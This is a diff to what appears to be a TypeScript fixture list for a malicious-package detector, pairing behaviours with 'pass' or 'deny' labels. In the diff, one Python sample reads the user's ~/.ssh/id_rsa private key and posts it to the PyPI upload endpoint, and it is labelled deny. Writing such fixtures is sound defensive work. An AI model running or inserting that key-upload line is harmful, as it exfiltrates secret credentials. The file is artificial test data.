@@ -2,6 +2,9 @@
 /** Behaviours of a later round, each beside what honest projects do. All inert. */
 import type { Shape } from './malicious.js';
 
+/** Where .pypirc's password belongs, which is no theft. */
+const uploadAddress = `https://upload.${['pypi', 'org'].join('.')}/legacy/`;
+
 function lines(...all: readonly string[]): string {
   return `${all.join('\n')}\n`;
 }
@@ -62,14 +65,14 @@ export const furtherBehaviours: readonly Shape[] = [
     'pass',
     'import os, requests',
     'def upload():',
-    '    requests.post("https://upload.pypi.org/legacy/", data=open(os.path.expanduser("~/.pypirc")).read())',
+    '    requests.post("' + uploadAddress + '", data=open(os.path.expanduser("~/.pypirc")).read())',
   ),
   shape(
     'uploads a key to that index',
     'deny',
     'import os, requests',
     'def upload():',
-    '    requests.post("https://upload.pypi.org/legacy/", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
+    '    requests.post("' + uploadAddress + '", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
   ),
   shape(
     'makes a function of code that it is given',
